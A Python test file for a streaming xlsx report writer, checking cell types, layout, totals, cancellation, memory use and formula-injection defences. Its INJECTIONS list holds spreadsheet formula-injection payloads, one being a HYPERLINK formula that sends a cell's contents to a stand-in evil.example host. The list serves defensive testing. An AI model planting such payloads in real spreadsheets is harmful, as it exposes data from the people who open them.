"""Streaming xlsx reports: typed cells, no formulas from user text, layout, cancel, memory."""

from __future__ import annotations

import os
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet import _writer as openpyxl_writer

from vokasi_desktop.documents.xlsx_export import (
    DATE_FORMAT,
    INT_FORMAT,
    PERCENT_FORMAT,
    RECAP_DIMENSIONS,
    RUPIAH_FORMAT,
    Column,
    ReportError,
    SheetSpec,
    enrolment_columns,
    institution_columns,
    monthly_recap_sheets,
    participant_columns,
    quota_columns,
    recap_columns,
    write_report,
)
from vokasi_desktop.documents.xlsx_safe import (
    CellStyle,
    CellWriter,
    clean_text,
    needs_guard,
    safe_text,
    write_cell,
    write_row,
)
from vokasi_desktop.domain.progress import Cancelled, CancelToken, Progress

SUBTITLE = [
    "KC Surabaya Karimunjawa",
    "Periode: November 2026",
    "Dibuat: 28 November 2026 10:15 oleh budi",
]
HEADER_ROW = 1 + len(SUBTITLE) + 2  # title, subtitles, blank, header

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1",
    "@SUM(A1:A2)",
    "-2+3",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "#N/A",
]


def participant(i: int, **changes: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "nik": "3578********0003",
        "kpj": "12345678901",
        "name": f"Peserta {i}",
        "sex": "P",
        "birth_place": "Surabaya",
        "birth_date": date(1990, 7, 1),
        "phone": "+6281234567890",
        "segment": "PU",
        "enrolled_on": datetime(2026, 11, 2, 9, 30),
        "status": "Terdaftar",
    }
    row.update(changes)
    return row


def sheet_xml(path: Path, index: int = 1) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def no_part_files(folder: Path) -> bool:
    return not [p for p in folder.iterdir() if p.name.endswith(".part")]


# --- xlsx_safe ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_safe_text_prefixes_dangerous_text(text: str) -> None:
    assert needs_guard(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Budi", "Jl. Merdeka - 5", "3578014107900003", "", "a=b"])
def test_safe_text_leaves_harmless_text(text: str) -> None:
    assert safe_text(text) == text
    assert not needs_guard(text)


def test_safe_text_none_numbers_and_control_characters() -> None:
    assert safe_text(None) == ""
    assert safe_text(12) == "12"
    assert safe_text("a\x00b\x07c\x1fd") == "abcd"
    assert clean_text("x" * 40_000) == "x" * 32_767
    assert safe_text("\x01=1") == "'=1"  # the control character is dropped first


def test_write_cell_and_row_helpers(tmp_path: Path) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    write_row(ws, ["=1+1", 3578014107900003, date(2026, 1, 2), "ok"], text_columns=[False, True])
    ws.append([write_cell(ws, "+62812", style=CellStyle(number_format="@")), write_cell(ws, 5)])
    writer = CellWriter(ws)
    ws.append([writer.nik(3578014107900003.0), writer.value(Decimal("10.5"))])
    target = tmp_path / "h.xlsx"
    wb.save(target)
    sheet = load_workbook(target).active
    assert sheet is not None
    assert sheet["A1"].value == "=1+1" and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert sheet["B1"].value == "3578014107900003" and sheet["B1"].data_type == "s"
    assert sheet["C1"].data_type == "d"
    assert sheet["A2"].value == "+62812" and sheet["A2"].number_format == "@"
    assert sheet["A2"].quotePrefix
    assert sheet["B2"].value == 5
    assert sheet["A3"].value == "3578014107900003" and sheet["A3"].number_format == "@"
    assert "<f>" not in sheet_xml(target)


# --- participant list -----------------------------------------------------------------------


@pytest.fixture
def participant_file(tmp_path: Path) -> Path:
    rows = [participant(1, nik="3578014107900003")]
    rows += [participant(i + 2, name=text, birth_place=text) for i, text in enumerate(INJECTIONS)]
    target = tmp_path / "peserta.xlsx"
    write_report(
        target,
        title="Daftar Peserta Kelas KLS-2026-001",
        subtitle_lines=SUBTITLE,
        sheets=[SheetSpec("Peserta", participant_columns(full_nik=True), rows)],
    )
    return target


def test_title_block_and_header(participant_file: Path) -> None:
    ws = load_workbook(participant_file)["Peserta"]
    assert ws["A1"].value == "Daftar Peserta Kelas KLS-2026-001"
    assert ws["A1"].font.bold
    assert [ws.cell(row=r, column=1).value for r in (2, 3, 4)] == SUBTITLE
    assert ws.cell(row=5, column=1).value is None
    headers = [c.value for c in ws[HEADER_ROW]]
    assert headers == [c.header for c in participant_columns(full_nik=True)]
    header = ws.cell(row=HEADER_ROW, column=2)
    assert header.font.bold and header.alignment.wrap_text
    assert header.fill.fgColor.rgb.endswith("DDEBF7")
    assert header.border.bottom.style == "thin"
    assert ws.row_dimensions[HEADER_ROW].height == 30  # "Tanggal Lahir" wraps in 13 chars


def test_frozen_panes_autofilter_widths_print_titles(participant_file: Path) -> None:
    ws = load_workbook(participant_file)["Peserta"]
    last = HEADER_ROW + 1 + len(INJECTIONS)
    assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
    assert ws.auto_filter.ref == f"A{HEADER_ROW}:K{last}"
    assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    widths = {letter: dim.width for letter, dim in ws.column_dimensions.items()}
    assert widths["A"] == 6 and widths["B"] == 20 and widths["D"] == 32


def test_nik_and_kpj_are_text(participant_file: Path) -> None:
    ws = load_workbook(participant_file)["Peserta"]
    nik = ws.cell(row=HEADER_ROW + 1, column=2)
    assert nik.value == "3578014107900003"
    assert nik.data_type == "s" and nik.number_format == "@"
    masked = ws.cell(row=HEADER_ROW + 2, column=2)
    assert masked.value == "3578********0003" and masked.data_type == "s"
    kpj = ws.cell(row=HEADER_ROW + 1, column=3)
    assert kpj.value == "12345678901" and kpj.data_type == "s"


def test_values_and_number_formats(participant_file: Path) -> None:
    ws = load_workbook(participant_file)["Peserta"]
    first = HEADER_ROW + 1
    assert ws.cell(row=first, column=1).value == 1  # auto number
    assert ws.cell(row=first + 1, column=1).value == 2
    assert ws.cell(row=first, column=1).number_format == INT_FORMAT
    birth = ws.cell(row=first, column=7)
    assert birth.value == datetime(1990, 7, 1) and birth.number_format == DATE_FORMAT
    enrolled = ws.cell(row=first, column=10)  # a datetime in a date column keeps the day only
    assert enrolled.value == datetime(2026, 11, 2) and enrolled.number_format == DATE_FORMAT
    assert ws.cell(row=first, column=8).value == "+6281234567890"
    assert ws.cell(row=first, column=8).data_type == "s"


def test_user_text_never_becomes_a_formula(participant_file: Path) -> None:
    wb = load_workbook(participant_file)
    ws = wb["Peserta"]
    for offset, text in enumerate(INJECTIONS):
        for column in (4, 6):  # name, birth place
            cell = ws.cell(row=HEADER_ROW + 2 + offset, column=column)
            assert cell.value == text.replace("\r", "\n") or cell.value == text
            assert cell.data_type == "s", text
            assert cell.quotePrefix, text
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type not in ("f", "e"), cell.coordinate
    xml = sheet_xml(participant_file)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml


def test_formula_free_under_read_only_values_too(participant_file: Path) -> None:
    wb = load_workbook(participant_file, read_only=True)
    values = [v for row in wb["Peserta"].iter_rows(values_only=True) for v in row]
    wb.close()
    assert "@SUM(A1:A2)" in values and "＝1+1" in values


# --- totals, tuples, several sheets ---------------------------------------------------------


def test_totals_row_and_rupiah_format(tmp_path: Path) -> None:
    rows = [
        {"enrolled_on": date(2026, 11, 1), "nik": "3578****", "name": "A", "cost": 2_400_000},
        {"enrolled_on": date(2026, 11, 2), "nik": "3578****", "name": "B", "cost": 1_500_000},
        {"enrolled_on": date(2026, 11, 3), "nik": "3578****", "name": "C", "cost": None},
    ]
    target = tmp_path / "pendaftaran.xlsx"
    result = write_report(
        target,
        title="Pendaftaran",
        subtitle_lines=SUBTITLE,
        sheets=[SheetSpec("Pendaftaran", enrolment_columns(full_nik=False), rows)],
    )
    assert result.rows_per_sheet == {"Pendaftaran": 3} and result.total_rows == 3
    ws = load_workbook(target)["Pendaftaran"]
    cost_col = [c.key for c in enrolment_columns(False)].index("cost") + 1
    first = HEADER_ROW + 1
    assert ws.cell(row=first, column=cost_col).value == 2_400_000
    assert ws.cell(row=first, column=cost_col).number_format == RUPIAH_FORMAT
    total_row = HEADER_ROW + 4
    assert ws.cell(row=total_row, column=1).value == "Jumlah"
    total = ws.cell(row=total_row, column=cost_col)
    assert total.value == 3_900_000 and total.number_format == RUPIAH_FORMAT and total.font.bold
    assert ws.auto_filter.ref == f"A{HEADER_ROW}:N{HEADER_ROW + 3}"  # totals row outside filter
    assert ws.cell(row=HEADER_ROW, column=3).value == "NIK (disamarkan)"


def test_totals_of_a_column_mixing_decimal_and_float(tmp_path: Path) -> None:
    # A Numeric column reads as Decimal, a computed value is a float: the sum takes both
    # (Decimal + float raised TypeError and lost the whole export).
    columns = [Column("name", "Nama"), Column("amount", "Biaya", "rupiah", total=True)]
    rows = [{"name": "A", "amount": Decimal("1500000")}, {"name": "B", "amount": 250000.5},
            {"name": "C", "amount": 3}]
    target = tmp_path / "campuran.xlsx"
    write_report(target, title="x", sheets=[SheetSpec("x", columns, rows)])
    ws = load_workbook(target)["x"]
    totals = [r for r in ws.iter_rows(values_only=True) if r[0] == "Jumlah"]
    assert totals == [("Jumlah", 1_750_003.5)]


def test_tuple_rows_recap_sheets_and_percent(tmp_path: Path) -> None:
    tables = {
        "segment": [("PU", 10, 8, 1, 0.8, 24_000_000), ("BPU", 5, 5, 0, 1.0, 12_000_000)],
        "status": [{"label": "Selesai", "count": 13, "share": 13 / 15}],
        "mode": iter([("luring", 15, 13, 1, 13 / 15, Decimal("36000000"))]),
    }
    target = tmp_path / "rekap.xlsx"
    result = write_report(
        target, title="Rekap Bulanan", subtitle_lines=SUBTITLE, sheets=monthly_recap_sheets(tables)
    )
    assert list(result.rows_per_sheet) == ["Per Segmen", "Per Status", "Per Mode"]
    wb = load_workbook(target)
    seg = wb["Per Segmen"]
    heading_row = 1 + len(SUBTITLE) + 1
    assert seg.cell(row=heading_row, column=1).value == "Rekap per segmen"
    header = heading_row + 2
    assert [c.value for c in seg[header]][:2] == ["Segmen", "Peserta Terdaftar"]
    assert seg.cell(row=header + 1, column=5).number_format == PERCENT_FORMAT
    assert seg.cell(row=header + 3, column=2).value == 15  # total enrolled
    assert seg.cell(row=header + 3, column=6).value == 36_000_000
    assert seg.cell(row=header + 3, column=5).value is None  # no total for a rate
    mode = wb["Per Mode"]
    assert mode.cell(row=header + 1, column=6).value == 36_000_000


def test_empty_sheet_has_note_and_filter_on_header(tmp_path: Path) -> None:
    target = tmp_path / "kosong.xlsx"
    write_report(
        target,
        title="Lembaga",
        sheets=[SheetSpec("Lembaga", institution_columns(), [])],
    )
    ws = load_workbook(target)["Lembaga"]
    header = 3
    assert ws.cell(row=header + 1, column=1).value == "Tidak ada data."
    assert ws.auto_filter.ref == f"A{header}:S{header}"


def test_sheet_names_are_cleaned_and_unique(tmp_path: Path) -> None:
    cols = [Column("a", "A")]
    target = tmp_path / "names.xlsx"
    write_report(
        target,
        title="x",
        sheets=[
            SheetSpec("Rekap 11/2026: [cabang]?", cols, [("1",)]),
            SheetSpec("Rekap 11-2026- -cabang--", cols, [("2",)]),
            SheetSpec("x" * 40, cols, [("3",)]),
        ],
    )
    names = load_workbook(target).sheetnames
    assert names[0] == "Rekap 11-2026- -cabang--"
    assert names[1] == "Rekap 11-2026- -cabang-- (2)"
    assert names[2] == "x" * 31


def test_every_report_definition_writes(tmp_path: Path) -> None:
    definitions = {
        "peserta": participant_columns(False),
        "pendaftaran": enrolment_columns(True),
        "kuota": quota_columns("Segmen"),
        "lembaga": institution_columns(),
        **{dim: recap_columns(dim) for dim in RECAP_DIMENSIONS},
    }
    samples = {
        "text": "teks",
        "nik": "3578********0003",
        "date": date(2026, 11, 28),
        "datetime": datetime(2026, 11, 28, 10, 15),
        "int": 7,
        "rupiah": 2_400_000,
        "percent": 0.5,
    }
    sheets = []
    for name, columns in definitions.items():
        keys = [c.key for c in columns]
        assert len(keys) == len(set(keys)), name
        assert all(c.header and c.header[0].isupper() for c in columns), name
        row = {c.key: samples[c.kind] for c in columns if not c.auto_number}
        sheets.append(SheetSpec(name, columns, [row, row]))
    target = tmp_path / "semua.xlsx"
    result = write_report(target, title="Semua", sheets=sheets)
    assert all(count == 2 for count in result.rows_per_sheet.values())
    quota = load_workbook(target)["kuota"]
    assert [c.value for c in quota[3]][:3] == ["Segmen", "Kuota Kursi", "Kursi Terpakai"]
    assert quota.cell(row=6, column=2).value == 14  # total of seats


def test_column_spec_validation() -> None:
    with pytest.raises(ValueError, match="total"):
        Column("name", "Nama", "text", total=True)
    with pytest.raises(ValueError, match="kind"):
        Column("x", "X", "money")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="auto_number"):
        Column("no", "No", "text", auto_number=True)
    with pytest.raises(ValueError):
        write_report("x.xlsx", title="x", sheets=[])


def test_wrong_types_are_written_as_safe_text(tmp_path: Path) -> None:
    columns = [Column("n", "Jumlah", "int"), Column("d", "Tanggal", "date")]
    target = tmp_path / "mixed.xlsx"
    write_report(target, title="x", sheets=[SheetSpec("x", columns, [("=1+1", "-")])])
    ws = load_workbook(target)["x"]
    assert ws["A4"].value == "=1+1" and ws["A4"].data_type == "s"
    assert ws["B4"].value == "-" and ws["B4"].data_type == "s"


# --- all-or-nothing, cancel, progress, memory -----------------------------------------------


def _temp_files() -> set[str]:
    return {p for p in openpyxl_writer.ALL_TEMP_FILES if os.path.exists(p)}


def test_cancel_deletes_partial_file_and_keeps_old_one(tmp_path: Path) -> None:
    target = tmp_path / "peserta.xlsx"
    target.write_bytes(b"old report")
    before = _temp_files()
    class CancelOnFourthCheck(CancelToken):
        calls = 0

        def raise_if_cancelled(self) -> None:
            self.calls += 1
            if self.calls > 3:  # cancel after ~750 rows
                self.cancel()
            super().raise_if_cancelled()

    cancel = CancelOnFourthCheck()
    rows = (participant(i) for i in range(5_000))
    with pytest.raises(Cancelled):
        write_report(
            target,
            title="x",
            sheets=[SheetSpec("Peserta", participant_columns(False), rows)],
            cancel=cancel,
        )
    assert target.read_bytes() == b"old report"
    assert no_part_files(tmp_path)
    assert _temp_files() == before  # openpyxl's streamed sheet files are gone too


def test_cancel_before_anything_leaves_no_file(tmp_path: Path) -> None:
    target = tmp_path / "new.xlsx"
    cancelled = CancelToken()
    cancelled.cancel()
    with pytest.raises(Cancelled):
        write_report(
            target,
            title="x",
            sheets=[SheetSpec("a", [Column("a", "A")], [("1",)])],
            cancel=cancelled,
        )
    assert not target.exists() and no_part_files(tmp_path)


def test_error_in_row_source_leaves_no_file(tmp_path: Path) -> None:
    def rows() -> Iterator[dict[str, Any]]:
        yield participant(1)
        raise RuntimeError("database went away")

    target = tmp_path / "x.xlsx"
    with pytest.raises(RuntimeError, match="database"):
        write_report(target, title="x", sheets=[SheetSpec("a", participant_columns(False), rows())])
    assert not target.exists() and no_part_files(tmp_path)


def test_missing_folder_is_a_report_error(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="Folder"):
        write_report(
            tmp_path / "nope" / "x.xlsx", title="x", sheets=[SheetSpec("a", [Column("a", "A")], [])]
        )


def test_progress_counts_rows_over_sheets(tmp_path: Path) -> None:
    seen: list[int] = []
    cols = [Column("a", "A", "int")]

    def report(progress: Progress) -> None:
        seen.append(progress.done)

    write_report(
        tmp_path / "p.xlsx",
        title="x",
        sheets=[
            SheetSpec("a", cols, ((i,) for i in range(1_500))),
            SheetSpec("b", cols, ((i,) for i in range(1_200))),
        ],
        report=report,
    )
    assert seen == sorted(seen)
    assert seen[-1] == 2_700
    assert 1_000 in seen and 2_500 in seen


def _peak_bytes(rows: int, tmp_path: Path) -> int:
    tracemalloc.start()
    try:
        write_report(
            tmp_path / f"m{rows}.xlsx",
            title="x",
            sheets=[
                SheetSpec("a", participant_columns(False), (participant(i) for i in range(rows)))
            ],
        )
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_does_not_grow_with_rows(tmp_path: Path) -> None:
    small = _peak_bytes(500, tmp_path)
    large = _peak_bytes(6_000, tmp_path)
    # Streaming: 12x the rows must not cost anywhere near 12x the memory.
    assert large < small * 2 + 2_000_000, (small, large)


def test_every_row_keeps_its_own_values_and_formats(tmp_path: Path) -> None:
    """The streaming path reuses cells between rows: no value or style may leak across."""
    columns = [
        Column("no", "No", "int", auto_number=True),
        Column("nik", "NIK", "nik"),
        Column("born", "Lahir", "date"),
        Column("at", "Waktu", "datetime"),
        Column("cost", "Biaya", "rupiah"),
        Column("name", "Nama", "text"),
    ]
    rows = [
        {"nik": f"3578****{i:04d}" if i != 2 else "=1+1", "born": date(1990, 1, 1 + i),
         "at": datetime(2026, 11, 28, 9, i), "cost": 1000 * i if i != 3 else None,
         "name": f"Peserta {i}"}
        for i in range(5)
    ]
    target = tmp_path / "rows.xlsx"
    write_report(target, title="Uji", subtitle_lines=SUBTITLE,
                 sheets=[SheetSpec("Data", columns, rows)])
    ws = load_workbook(target)["Data"]
    for i in range(5):
        r = HEADER_ROW + 1 + i
        nik = ws.cell(row=r, column=2)
        assert ws.cell(row=r, column=1).value == i + 1
        assert nik.value == (f"3578****{i:04d}" if i != 2 else "=1+1")
        assert nik.data_type == "s" and nik.number_format == "@"
        assert nik.quotePrefix == (i == 2)
        assert ws.cell(row=r, column=3).value == datetime(1990, 1, 1 + i)
        assert ws.cell(row=r, column=3).is_date
        assert ws.cell(row=r, column=4).value == datetime(2026, 11, 28, 9, i)
        assert ws.cell(row=r, column=5).value == (1000 * i if i != 3 else None)
        assert ws.cell(row=r, column=5).number_format == RUPIAH_FORMAT
        assert ws.cell(row=r, column=6).value == f"Peserta {i}"
